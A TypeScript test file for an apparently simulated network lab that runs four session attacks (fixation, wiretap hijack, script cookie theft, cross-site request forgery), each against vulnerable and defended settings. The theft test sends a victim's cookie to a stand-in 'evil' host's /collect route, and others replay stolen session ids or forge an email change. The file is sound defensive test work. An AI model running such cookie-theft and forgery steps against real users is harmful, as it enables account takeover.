/**
 * Four attacks on sessions. Each is run twice: it works without the defence and fails with it, and
 * everything else is the same. `alice` is the victim, `mallory` the attacker.
 */
import { describe, expect, test } from 'vitest';
import { ms, type Process } from '@tcplab/core';
import { type CookieJarOptions } from '@tcplab/core/cookies';
import { route, serveHttp } from '@tcplab/core/http';
import { ClientSession, Connector, type ServerSessionOptions } from '@tcplab/core/session';
import type { MemoryNetwork } from '../../../../test/support/memory-host.ts';
import { shopTls, TRUST } from './certificates.ts';
import { Browser, openShop, type Shop } from './visitors.ts';

/** Who the shop takes mallory for, with a cookie that he has got hold of. */
function* impersonate(shop: Shop, sid: string, site = 'http://shop'): Process<string> {
  const session = new ClientSession(shop.net.host('mallory'));
  const response = yield* session.get(`${site}/`, { cookies: { sid } });
  const text = yield* response.text();
  session.close();
  return text;
}

describe('session fixation: the victim logs in with an id that the attacker knows', () => {
  /** Mallory has put his own session's id into alice's browser, e.g. from another host of the domain. */
  function fixation(options: ServerSessionOptions, id?: string): string {
    const shop = openShop({ csrf: 'off', ...options });
    return shop.net.runProcess(shop.net.host('alice'), function* (host) {
      const mallory = new Browser(shop.net.host('mallory'));
      yield* mallory.get('/');
      const planted = id ?? mallory.cookie('sid')!;
      const alice = new Browser(host);
      const uri = { scheme: 'http', host: 'shop', path: '/' };
      alice.jar.setCookie(`sid=${planted}; Path=/`, { uri }, host.now());
      expect(yield* alice.login('alice')).toBe(200);
      expect(yield* alice.get('/')).toBe('alice');
      return yield* impersonate(shop, planted);
    });
  }

  test('works where the id stays the same at login', () => {
    expect(fixation({ rotateAtLogin: false })).toBe('alice');
  });

  test('SS-R01 fails where login gives a new id', () => {
    expect(fixation({ rotateAtLogin: true })).toBe('nobody');
  });

  test('needs no session of the attacker’s where the server adopts any id', () => {
    expect(fixation({ rotateAtLogin: false, adoptUnknownIds: true }, 'mallorys-choice')).toBe(
      'alice',
    );
  });

  test('SS-I04 fails where it does not', () => {
    expect(fixation({ rotateAtLogin: false, adoptUnknownIds: false }, 'mallorys-choice')).toBe(
      'nobody',
    );
  });
});

describe('hijack: the attacker listens on the wire', () => {
  /**
   * The shop answers on 443 over TLS, and on 80 in the clear.
   * Alice logs in securely; later she follows an old link to a page on port 80.
   */
  function hijack(secure: boolean): string {
    const options: ServerSessionOptions = { secure, csrf: 'off' };
    const shop = openShop(options, { port: 443, secure: shopTls });
    serveHttp(shop.net.host('shop'), 80, {
      routes: [route('GET /old', () => ({ body: 'old page' }))],
    });
    return shop.net.runProcess(shop.net.host('alice'), function* (host) {
      const connector = new Connector(host, { tls: TRUST });
      const alice = new Browser(host, { site: 'https://shop', session: { connector } });
      yield* alice.login('alice');
      expect(yield* alice.get('/')).toBe('alice');
      yield* (yield* alice.session.get('http://shop/old')).read();
      const overheard = wiretap(shop.net);
      const sid = /Cookie: sid=([A-Za-z0-9_-]+)/.exec(overheard)?.[1] ?? 'nothing-overheard';
      const own = new ClientSession(shop.net.host('mallory'), { tls: TRUST });
      const response = yield* own.get('https://shop/', {
        cookies: { sid },
      });
      return yield* response.text();
    });
  }

  test('works where the cookie goes over plain HTTP too', () => {
    expect(hijack(false)).toBe('alice');
  });

  test('CK-SEND-SECURE fails where the cookie is Secure', () => {
    expect(hijack(true)).toBe('nobody');
  });
});

describe('theft by a script: the attacker gets code into a page', () => {
  /** The script runs in alice's browser on a page of the shop and sends home what it can read. */
  function theft(httpOnly: boolean): string {
    const shop = openShop({ httpOnly });
    const stolen: string[] = [];
    serveHttp(shop.net.host('evil'), 80, {
      routes: [
        route('GET /collect', (request) => {
          stolen.push(request.parameters.get('c') ?? '');
          return {};
        }),
      ],
    });
    return shop.net.runProcess(shop.net.host('alice'), function* (host) {
      const alice = new Browser(host);
      yield* alice.login('alice');
      const page = { uri: { scheme: 'http', host: 'shop', path: '/' }, api: 'non-HTTP' } as const;
      const documentCookie = alice.jar.cookieHeader(page, host.now()).value ?? '';
      yield* alice.session.get('http://evil/collect', { params: { c: documentCookie } });
      const sid = /sid=(.+)/.exec(stolen[0]!)?.[1] ?? 'nothing';
      return yield* impersonate(shop, sid);
    });
  }

  test('works where scripts can read the cookie', () => {
    expect(theft(false)).toBe('alice');
  });

  test('CK-SEND-HTTPONLY fails where the cookie is HttpOnly', () => {
    expect(theft(true)).toBe('nobody');
  });
});

describe('forged requests: a foreign page sends a form to the shop', () => {
  /** Alice is logged in and opens a page of mallory's, whose form is sent as soon as it is there. */
  function forgery(options: ServerSessionOptions, jar: CookieJarOptions = {}): string | undefined {
    const shop = openShop(options);
    shop.net.runProcess(shop.net.host('alice'), function* (host) {
      const alice = new Browser(host, { jar });
      yield* alice.login('alice');
      const response = yield* alice.session.post('http://shop/account/email', {
        data: { email: 'mallory@evil' },
        initiator: { scheme: 'http', host: 'evil' },
        topLevelNavigation: true,
      });
      yield* response.read();
    });
    return shop.emails.get('alice');
  }

  /** A browser as they were before 2020: a cookie without SameSite goes everywhere. */
  const OLD_BROWSER: CookieJarOptions = { defaultSameSite: 'None' };

  test('works without a token where the cookie has no SameSite and the browser is old', () => {
    expect(forgery({ csrf: 'off', sameSite: 'absent' }, OLD_BROWSER)).toBe('mallory@evil');
  });

  test('CK-SEND-SAMESITE fails where the cookie is SameSite=Lax', () => {
    expect(forgery({ csrf: 'off', sameSite: 'Lax' }, OLD_BROWSER)).toBeUndefined();
  });

  test('CK-SEND-SAMESITE fails in a browser that takes Lax for granted', () => {
    expect(forgery({ csrf: 'off', sameSite: 'absent' })).toBeUndefined();
  });

  test('SS-C01 fails where forms carry a token', () => {
    expect(forgery({ csrf: 'synchroniser', sameSite: 'absent' }, OLD_BROWSER)).toBeUndefined();
  });

  test('SS-C02 fails where forms repeat a cookie', () => {
    const shop = openShop({ csrf: 'double submit', sameSite: 'absent' });
    shop.net.runProcess(shop.net.host('alice'), function* (host) {
      const alice = new Browser(host, { jar: OLD_BROWSER });
      yield* alice.get('/login');
      // The site's own script reads the cookie and repeats it.
      const own = { headers: { 'X-CSRF-Token': alice.cookie('csrf')! } };
      const data = { user: 'alice', password: 'wonder' };
      yield* alice.session.post('http://shop/login', { data, ...own });
      const email = (address: string, more: object): Process<unknown> =>
        alice.session.post('http://shop/account/email', { data: { email: address }, ...more });
      yield* email('alice@home', own);
      const foreign = { initiator: { scheme: 'http', host: 'evil' }, topLevelNavigation: true };
      yield* email('mallory@evil', foreign);
      yield* email('mallory@evil', { ...foreign, headers: { 'X-CSRF-Token': 'guess' } });
    });
    expect(shop.emails.get('alice')).toBe('alice@home');
    expect(shop.net.notes.filter((note) => note.cause?.rule.id === 'SS-C02')).toHaveLength(2);
  });

  test('the defences do not stand in the way of alice herself', () => {
    const shop = openShop({});
    shop.net.runProcess(shop.net.host('alice'), function* (host) {
      const alice = new Browser(host);
      yield* alice.login('alice');
      expect(yield* alice.submit('/account', '/account/email', { email: 'alice@home' })).toBe(200);
    });
    expect(shop.emails.get('alice')).toBe('alice@home');
  });
});

/** Everything that went over the wire, as text. */
function wiretap(net: MemoryNetwork): string {
  return net.connections
    .flatMap(({ client, server }) => [client, server])
    .flatMap((end) => (end as unknown as { sent: Uint8Array[] }).sent)
    .map((part) => String.fromCharCode(...part))
    .join('\n');
}

test('nothing of a visit over TLS can be read on the wire', () => {
  const shop = openShop({}, { port: 443, secure: shopTls });
  shop.net.runProcess(shop.net.host('alice'), function* (host) {
    const connector = new Connector(host, { tls: TRUST });
    const alice = new Browser(host, { site: 'https://shop', session: { connector } });
    yield* alice.login('alice');
    expect(alice.jar.cookies(ms(0))[0]!.secureOnly).toBe(true);
  });
  expect(wiretap(shop.net)).not.toContain('HTTP/1.1');
});
